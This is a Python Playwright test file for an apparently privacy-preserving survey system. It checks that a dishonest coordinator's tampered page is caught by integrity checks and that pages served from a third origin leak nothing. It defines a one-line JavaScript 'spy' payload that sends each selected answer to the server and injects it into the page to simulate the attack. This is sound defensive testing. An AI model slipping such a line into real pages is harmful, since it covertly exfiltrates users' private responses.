"""The page from a third origin: a coordinator that serves another page learns no answer."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from starlette.applications import Starlette
from starlette.responses import Response
from starlette.routing import Mount
from starlette.staticfiles import StaticFiles

from faircount.owner.page_export import export_page
from faircount.server.aggregator.app import aggregator_app
from faircount.server.common.page_files import page_files
from faircount.server.coordinator.app import coordinator_app

SENT = "Thank you! Your answer has arrived"
NOTHING_RUNS = "faircount"
"""The heading of index.html itself, before any script has changed it."""

# One more line in the page of a dishonest coordinator: it tells the answer before anybody confirms.
SPY = b'\ndocument.addEventListener("change", (event) => fetch(`spy?${event.target.value}`));\n'


class Manipulating:
    """A coordinator that serves its page with one more line, and everything else as usual."""

    def __init__(self, app: Any) -> None:
        self.app = app
        self.told: list[str] = []
        self.paths: list[str] = []

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        path = scope["path"]
        self.paths.append(path)
        if path == "/page/main.js":
            (main,) = (file for file in page_files() if file.path == "page/main.js")
            answer = Response(main.content + SPY, media_type=main.media_type)
            await answer(scope, receive, send)
        elif path == "/spy":
            self.told.append(scope["query_string"].decode())
            await Response()(scope, receive, send)
        else:
            await self.app(scope, receive, send)


class Places:
    """A dishonest coordinator, and a folder that another origin serves."""

    def __init__(self, trial: Any, folder: Path) -> None:
        folder.mkdir()
        self.folder = folder / "page"
        self.folder.mkdir()
        static = Mount("/page", StaticFiles(directory=self.folder, html=True))
        self.origin = trial.serve(Starlette(routes=[static]))
        self.allowed = [self.origin]
        self.s1 = Manipulating(coordinator_app(trial.pair.s1, origins=self.allowed))
        self.server = trial.serve(self.s1)
        self.hash = export_page(self.folder, self.server)

    def link(self, invitation: str) -> str:
        return f"{self.origin}/page/#{invitation.partition('#')[2]}"


@pytest.fixture
def places(trial, tmp_path: Path) -> Iterator[Places]:
    return Places(trial, tmp_path / "owner")


def opened(visitor, link: str) -> Page:
    page = visitor().new_page()
    page.goto(link)
    return page


def choose(page: Page) -> None:
    page.get_by_role("radio", name="Carrow").check()


def test_the_coordinators_own_page_can_tell_it_the_answer(trial, visitor, places) -> None:
    """The attack, which nothing on the coordinator's own page can prevent."""
    (link, *_) = trial.create()
    page = opened(visitor, link.replace(trial.address, places.server))
    # The response comes after the coordinator has noted what it was told.
    with page.expect_response("**/spy?*"):
        choose(page)
    assert places.s1.told == ["2"]
    expect(page.get_by_text("a hash that it shows itself proves nothing")).to_be_visible()


def test_a_page_from_a_third_origin_tells_the_coordinator_nothing(trial, visitor, places) -> None:
    (link, *_) = trial.create()
    page = opened(visitor, places.link(link))
    scripts = []
    page.on("request", lambda request: scripts.append(request.url))
    page.reload()
    host = places.origin.partition("//")[2]
    expect(page.get_by_text(f"This page comes from {host}, not from Aldmoor")).to_be_visible()
    choose(page)
    page.get_by_role("button", name="Continue").click()
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(SENT)
    assert places.s1.told == []
    assert all(path.startswith("/v1/surveys/") for path in places.s1.paths)
    loaded = [url for url in scripts if url.endswith((".js", ".css"))]
    assert loaded
    assert all(url.startswith(f"{places.origin}/page/") for url in loaded)
    assert trial.status()["responses"] == 1


def test_scripts_of_the_bundle_may_call_nobody_but_the_coordinator(trial, visitor, places) -> None:
    (link, *_) = trial.create()
    page = opened(visitor, places.link(link))
    expect(page.get_by_role("radio", name="Carrow")).to_be_visible()
    call = "([url]) => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'blocked')"
    assert page.evaluate(call, [f"{places.server}/v1/operator"]) == "sent"
    for other in (trial.address, places.origin):
        assert page.evaluate(call, [f"{other}/v1/operator"]) == "blocked"


@pytest.mark.parametrize("path", ["page/main.js", "page/survey_view.js", "client/report.js"])
def test_a_changed_file_of_the_bundle_does_not_run(trial, visitor, places, path: str) -> None:
    (link, *_) = trial.create()
    file = places.folder / path
    file.write_bytes(file.read_bytes() + SPY)
    page = visitor().new_page()
    problems = []
    page.on("console", lambda message: problems.append(message.text))
    page.goto(places.link(link), wait_until="networkidle")
    expect(page.get_by_role("heading", level=1)).to_have_text(NOTHING_RUNS)
    assert page.get_by_role("radio").count() == 0
    assert any("integrity" in problem for problem in problems)


def test_an_origin_that_the_coordinator_does_not_allow(trial, visitor, places) -> None:
    (link, *_) = trial.create()
    static = Mount("/page", StaticFiles(directory=places.folder, html=True))
    elsewhere = trial.serve(Starlette(routes=[static]))
    page = opened(visitor, places.link(link).replace(places.origin, elsewhere))
    expect(page.get_by_role("alert")).to_have_attribute("data-refusal", "unreachable")
    assert trial.status()["responses"] == 0


def test_the_aggregator_can_serve_the_page_too(trial, visitor, places) -> None:
    (link, *_) = trial.create()
    origin = trial.serve(aggregator_app(trial.pair.s2, places.server))
    places.allowed.append(origin)
    page = opened(visitor, f"{origin}/#{link.partition('#')[2]}")
    choose(page)
    page.get_by_role("button", name="Continue").click()
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(SENT)
    assert places.s1.told == []
    assert page.evaluate("fetch('/page.json').then(() => 'sent', () => 'blocked')") == "blocked"
